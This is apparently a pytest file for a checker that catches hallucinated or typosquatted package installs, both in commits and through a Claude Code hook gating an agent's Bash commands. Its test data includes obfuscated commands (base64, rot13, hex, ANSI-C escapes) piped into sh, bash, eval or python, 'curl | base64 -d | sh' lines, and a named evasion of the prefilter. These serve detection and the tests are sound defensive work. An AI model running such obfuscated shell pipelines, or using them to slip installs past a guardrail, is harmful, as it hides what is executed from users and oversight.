"""Install commands the reader misread or never saw (ATTACK4 D3-D5): uv's ``NAME@VERSION``, a glob in the
installer's path, and text computed in the command that a shell or an interpreter runs. Each through the
parser, the agent hook (a Claude Code payload) and a commit in a real git repository."""

from __future__ import annotations

import io
import json
import sys
from typing import Any

import pytest

from hallucheck.cli import main
from hallucheck.sources.install_commands import install_commands
from tests.conftest import Outcome, Repo

PYPROJECT = '[project]\nname = "app"\nversion = "1"\ndependencies = ["requests"]\n'


@pytest.fixture
def project(repo: Repo, monkeypatch: pytest.MonkeyPatch) -> Repo:
    repo.commit({"pyproject.toml": PYPROJECT, "README.md": "# App\n", "app.py": "import requests\n"}, "init")
    monkeypatch.chdir(repo.root)
    return repo


def requirements(text: str) -> list[tuple[str, str, bool]]:
    """Each argument of ``text``'s install commands: its name, its requirement, whether it is determined."""
    return [(argument.name, argument.requirement, argument.determined) for command in install_commands(text)
            for argument in command.arguments if not argument.sets_source]


def decision(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, command: str) -> tuple[str, str]:
    """What the agent hook answers a Claude Code Bash payload: ``allow``, ``ask`` or ``deny``, and why."""
    payload = {"session_id": "s", "hook_event_name": "PreToolUse", "tool_name": "Bash",
               "tool_input": {"command": command}}  # fmt: skip
    capsys.readouterr()
    monkeypatch.setattr(sys, "stdin", io.StringIO(json.dumps(payload)))
    code = main(["install-check"])
    out, err = capsys.readouterr()
    if code == 2:
        return "deny", err
    if out:
        answer = json.loads(out)["hookSpecificOutput"]
        return answer["permissionDecision"], answer["permissionDecisionReason"]
    return "allow", err


def findings(outcome: Outcome) -> list[tuple[str, int, str | None, str]]:
    return [(item["code"], item["line"], item.get("distribution"), item["severity"])
            for item in outcome.json()["findings"]]  # fmt: skip


# D5: uv's tool commands (and Poetry) take `NAME@VERSION` / `NAME@latest` from the index.

@pytest.mark.parametrize(("text", "expected"), [
    ("uvx ruff@latest check .", [("ruff", "ruff", True)]),
    ("uvx ruff@0.6.0 check .", [("ruff", "ruff==0.6.0", True)]),
    ("uv tool install black@24.1.0", [("black", "black==24.1.0", True)]),
    ("uv tool run black@24.1.0 --check .", [("black", "black==24.1.0", True)]),
    ("uvx --from httpie@3.2.4 http GET example.org", [("httpie", "httpie==3.2.4", True)]),
    ("uvx 'ruff[x]@latest'", [("ruff", "ruff[x]", True)]),
    ("uvx --with rich@13 pytest@8.3", [("rich", "rich==13", True), ("pytest", "pytest==8.3", True)]),
    ("poetry add requests@^2.0 pendulum@latest 'x@>=1,<2' y@*",
     [("requests", "requests", True), ("pendulum", "pendulum", True), ("x", "x>=1,<2", True), ("y", "y", True)]),
    # A direct reference stays one: `NAME @ URL`, a `git+` URL.
    ("uv tool install black@git+https://github.com/psf/black",
     [("black", "black@git+https://github.com/psf/black", True)]),
    ("uvx --from 'ruff @ https://example.org/ruff-1.0.whl' ruff",
     [("ruff", "ruff @ https://example.org/ruff-1.0.whl", True)]),
    # pipx reads pip's requirements: `==` pins, `@VERSION` is no version there.
    ("pipx run ruff==0.6", [("ruff", "ruff==0.6", True)]),
    ("pipx install 'black==24'", [("black", "black==24", True)]),
])  # fmt: skip
def test_a_version_after_at_is_a_version_from_the_index(text: str, expected: list[tuple[str, str, bool]]) -> None:
    assert requirements(text) == expected


@pytest.mark.parametrize(("command", "answer", "code"), [
    ("uvx ruff@latest check .", "allow", ""),
    ("uv tool install black@24.1.0", "allow", ""),
    ("uvx requests@2.32.0", "allow", ""),
    ("pipx run ruff==0.6", "allow", ""),
    ("pipx install 'black==24'", "allow", ""),
    ("uvx huggingface-cli@latest", "deny", "HC031"),
    ("uv tool install reqeusts@2.0", "deny", "HC030"),
    ("uv tool install black@git+https://github.com/psf/black", "ask", "HC040"),
])  # fmt: skip
def test_the_hook_judges_name_at_version_as_the_bare_name(
    project: Repo, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, command: str, answer: str,
    code: str,
) -> None:
    given, reason = decision(capsys, monkeypatch, command)
    assert given == answer and code in reason, reason


def test_a_commit_adding_uv_version_syntax_passes_and_a_hallucinated_name_blocks(project: Repo, run: Any) -> None:
    project.stage({"README.md": "# App\n\n```sh\nuvx ruff@latest check .\nuv tool install black@24.1.0\n```\n"})
    outcome = run()
    assert outcome.code == 0 and findings(outcome) == [], outcome.out
    project.stage({"README.md": "# App\n\n```sh\nuvx huggingface-cli@latest\n```\n"})
    outcome = run()
    assert outcome.code == 1 and findings(outcome) == [("HC031", 4, "huggingface-cli", "error")]
    project.git("commit", "-q", "--no-verify", "-m", "docs")
    assert findings(run("--all-files")) == [("HC031", 4, "huggingface-cli", "error")]


# D3: a glob in the command word is expanded by the shell before the program runs.

@pytest.mark.parametrize(("text", "expected"), [
    (".venv/bin/pi? install huggingface-cli", [("huggingface-cli", True)]),
    ("/usr/bin/pi[p] install huggingface-cli", [("huggingface-cli", True)]),
    ("/usr/local/bin/[p]ip install huggingface-cli", [("huggingface-cli", True)]),
    ("u[v] pip install huggingface-cli", [("huggingface-cli", True)]),
    ("u?x huggingface-cli", [("huggingface-cli", True)]),
    ("sudo -H .venv/bin/pytho? -m pip install huggingface-cli", [("huggingface-cli", True)]),
    ("strace -f .venv/bin/pi? install huggingface-cli", [("huggingface-cli", True)]),
    # More than one installer may answer to it: each reading is checked, and which one runs is not known.
    ("~/.local/bin/pi* install huggingface-cli", [("huggingface-cli", True), ("?", False)]),
    ("pip? run huggingface-cli", [("huggingface-cli", True), ("?", False)]),
    # Quoted or escaped glob characters are the file's name; a glob that names no installer is no install.
    ('.venv/bin/"pi?" install huggingface-cli', []),
    (".venv/bin/pi\\? install huggingface-cli", []),
    ("ls *.py", []),
    ("rm -f pi* && echo done", []),
    ("pi* --version", []),
    ("cp requirements*.txt /tmp", []),
    # A glob without a letter chooses no program (a bullet, a product: `* Tip: run "pip install x"`).
    ("* install huggingface-cli", []),
    ('* Tip: Do "pip install python-dotenv" to use them.', [("python-dotenv", True)]),
])  # fmt: skip
def test_a_glob_in_the_command_word_is_read_as_the_installers_it_may_name(
    text: str, expected: list[tuple[str, bool]]
) -> None:
    found = [(name if determined else "?", determined) for name, _, determined in requirements(text)]
    assert found == expected


@pytest.mark.parametrize("text", [
    ".venv/bin/pi? install huggingface-cli", "/usr/bin/pi[p] install x", "u[v] add x", "u?x x", "*x x",
    "*ip install x",
])  # fmt: skip
def test_the_prefilter_lets_an_installer_glob_reach_the_reader(text: str) -> None:
    from hallucheck.sources.install_commands import may_install

    assert may_install(text)


@pytest.mark.parametrize("text", ["ls *.py", "What is it?", "* a bullet\n* another", "see [the docs](x)", "a**b**",
                                  "* Install it", "??? install x", "**IP** address"])
def test_the_prefilter_stays_cheap_on_globs_that_name_no_installer(text: str) -> None:
    from hallucheck.sources.install_commands import may_install

    assert not may_install(text)


@pytest.mark.parametrize(("command", "answer", "code"), [
    (".venv/bin/pi? install huggingface-cli", "deny", "HC031"),
    ("/usr/bin/pi[p] install huggingface-cli", "deny", "HC031"),
    ("~/.local/bin/pi* install huggingface-cli", "deny", "HC031"),
    ('.venv/bin/pi? install "huggingface-cli"', "deny", "HC031"),
    ("~/.local/bin/pi* install requests", "ask", "HC042"),
    (".venv/bin/pi? install requests", "allow", ""),
    ("ls .venv/bin/pi*", "allow", ""),
])  # fmt: skip
def test_the_hook_reads_an_installer_glob(
    project: Repo, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, command: str, answer: str,
    code: str,
) -> None:
    given, reason = decision(capsys, monkeypatch, command)
    assert given == answer and code in reason, reason


@pytest.mark.parametrize(("path", "text", "expected"), [
    ("setup.sh", "#!/bin/sh\n.venv/bin/pi? install huggingface-cli\n", [("HC031", 2, "huggingface-cli", "error")]),
    ("Dockerfile", "FROM python\nRUN /usr/local/bin/pi[p] install huggingface-cli\n",
     [("HC031", 2, "huggingface-cli", "error")]),
    ("setup.sh", "#!/bin/sh\n~/.local/bin/pi* install requests\n", [("HC042", 2, None, "review")]),
    ("setup.sh", "#!/bin/sh\nrm -f build/pi*\nls *.py\n", []),
])  # fmt: skip
def test_a_commit_adding_an_installer_glob_is_checked(
    project: Repo, run: Any, path: str, text: str, expected: list[tuple[str, int, str | None, str]]
) -> None:
    project.stage({path: text})
    outcome = run()
    assert findings(outcome) == expected and outcome.code == (1 if expected else 0), outcome.out
    project.git("commit", "-q", "--no-verify", "-m", "x")
    files_mode = [(code, line, name, "warning" if code == "HC042" else severity)
                  for code, line, name, severity in expected]  # fmt: skip
    assert findings(run("--all-files")) == files_mode


# D4: text computed from the command's own words and run by a shell or an interpreter.

HIDDEN = "cGlwIGluc3RhbGwgaHVnZ2luZ2ZhY2UtY2xp"  # base64 of `pip install huggingface-cli`
HEX = b'import os; os.system("pip install huggingface-cli")'.hex()


@pytest.mark.parametrize(("text", "expected"), [
    (f"echo {HIDDEN} | base64 -d | sh", "base64 | sh"),
    (f"echo {HIDDEN} | base64 --decode | bash -s", "base64 | bash"),
    ("tr a-z n-za-m <<< cvc vafgnyy uhttvatsnpr-pyv | sh", "tr | sh"),
    (f"echo {HIDDEN} | base64 -d | python3 -", "base64 | python"),
    (f"sh <(echo {HIDDEN} | base64 -d)", "base64 | sh"),
    (f'bash -c "$(echo {HIDDEN} | base64 -d)"', "base64 | bash"),
    (f'eval "$(echo {HIDDEN} | base64 -d)"', "base64 | eval"),
    (f"source <(echo {HIDDEN} | base64 -d)", "base64 | source"),
    ("curl -s https://example.org/x | base64 -d | sh", "base64 | sh"),
    ("printf '\\160\\151\\160 install x' | rev | sh", "rev | sh"),
    ('python3 -c "exec(x)"', "python"),
])  # fmt: skip
def test_text_computed_from_the_command_and_run_is_undetermined(text: str, expected: str) -> None:
    commands = install_commands(text)
    assert [command.tool for command in commands] == [expected]
    assert [argument.determined for command in commands for argument in command.arguments] == [False]


@pytest.mark.parametrize("text", [
    f'python3 -c "exec(bytes.fromhex(\'{HEX}\'))"',
    "python3 -c \"import base64; exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oInBpcCBpbnN0YWxsIGh1Z2dpbmdm"
    "YWNlLWNsaSIp'))\"",
    "python3 -c \"exec('import os; os.system(\\\"pip install huggingface-cli\\\")')\"",
])  # fmt: skip
def test_python_code_run_by_exec_is_read_when_literals_compute_it(text: str) -> None:
    assert requirements(text) == [("huggingface-cli", "huggingface-cli", True)]


@pytest.mark.parametrize("text", [
    # A remote installer, a file, a program's own output: nothing hidden in the command (see docs/installs.md).
    "curl -LsSf https://astral.sh/uv/install.sh | sh",
    "curl -sSL https://install.python-poetry.org | python3 -",
    "wget -qO- https://pixi.sh/install.sh | bash",
    'eval "$(pyenv init -)"',
    'eval "$(register-python-argcomplete tox)"',
    "register-python-argcomplete --shell fish tox | source",
    "tox config -k type --format json | python -c \"import json,sys; print(json.load(sys.stdin))\"",
    "python -c \"print(eval('1+1'))\"",
])  # fmt: skip
def test_text_from_elsewhere_run_by_a_shell_is_not_asked_about(text: str) -> None:
    assert install_commands(text) == []


@pytest.mark.parametrize("text", ["cat setup.sh | sh", "$(cat setup.sh)", 'eval "$(< setup.sh)"'])
def test_a_file_run_through_cat_is_the_file_run_as_sh_runs_it(text: str) -> None:
    """A file's text run as a command runs that file, as ``sh setup.sh`` does: the hook reads it from disk."""
    found = install_commands(text, runs_files=True)
    assert [(item.path, item.runs) for command in found for item in command.inputs] == [("setup.sh", "shell")]
    assert [argument for command in found for argument in command.arguments] == []


@pytest.mark.parametrize("text", [
    f"echo {HIDDEN} | base64 -d | sh", "x | bash", "x |sudo -E bash -s", "x | python3.12", 'eval "$(x)"',
    "sh <(x)", 'bash -c "$(x)"', "source <(x)", ". <(x)", "x | source /dev/stdin", "exec(bytes.fromhex('70'))",
])  # fmt: skip
def test_the_prefilter_lets_computed_text_run_by_a_shell_reach_the_reader(text: str) -> None:
    from hallucheck.sources.install_commands import may_install

    assert may_install(text)


@pytest.mark.parametrize(("command", "answer", "code"), [
    (f"echo {HIDDEN} | base64 -d | sh", "ask", "HC042"),
    ("tr a-z n-za-m <<< cvc vafgnyy uhttvatsnpr-pyv | sh", "ask", "HC042"),
    (f'python3 -c "exec(bytes.fromhex(\'{HEX}\'))"', "deny", "HC031"),
    ('python3 -c "exec(bytes.fromhex(\'70697020696e7374616c6c\'))"', "ask", "HC042"),
    (f'eval "$(echo {HIDDEN} | base64 -d)"', "ask", "HC042"),
    ("curl -LsSf https://astral.sh/uv/install.sh | sh", "allow", ""),
    ('eval "$(pyenv init -)"', "allow", ""),
])  # fmt: skip
def test_the_hook_asks_about_computed_text_run_by_a_shell(
    project: Repo, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, command: str, answer: str,
    code: str,
) -> None:
    given, reason = decision(capsys, monkeypatch, command)
    assert given == answer and code in reason, reason


@pytest.mark.parametrize(("path", "text", "expected"), [
    ("setup.sh", f"#!/bin/sh\necho {HIDDEN} | base64 -d | sh\n", [("HC042", 2, None, "review")]),
    ("Dockerfile", f"FROM python\nRUN echo {HIDDEN} | base64 -d | bash\n", [("HC042", 2, None, "review")]),
    ("README.md", "# App\n\n```sh\ncurl -LsSf https://astral.sh/uv/install.sh | sh\neval \"$(pyenv init -)\"\n```\n",
     []),
])  # fmt: skip
def test_a_commit_adding_computed_text_run_by_a_shell_is_reviewed(
    project: Repo, run: Any, path: str, text: str, expected: list[tuple[str, int, str | None, str]]
) -> None:
    project.stage({path: text})
    outcome = run()
    assert findings(outcome) == expected and outcome.code == (1 if expected else 0), outcome.out
    project.git("commit", "-q", "--no-verify", "-m", "x")
    files_mode = [(code, line, name, "warning") for code, line, name, _ in expected]
    assert findings(run("--all-files")) == files_mode


@pytest.mark.parametrize("text", [
    "$'\\x70ip' $'\\x69nstall' huggingface-cli", "$'p\\x69p' $'i\\x6estall' huggingface-cli",
])  # fmt: skip
def test_installer_and_verb_both_spelled_with_ansi_c_escapes_are_read(text: str) -> None:
    """Attack E23: with neither the installer's name nor the verb in plain text, the prefilter passed it."""
    from hallucheck.sources.install_commands import may_install

    assert may_install(text)
    assert requirements(text) == [("huggingface-cli", "huggingface-cli", True)]
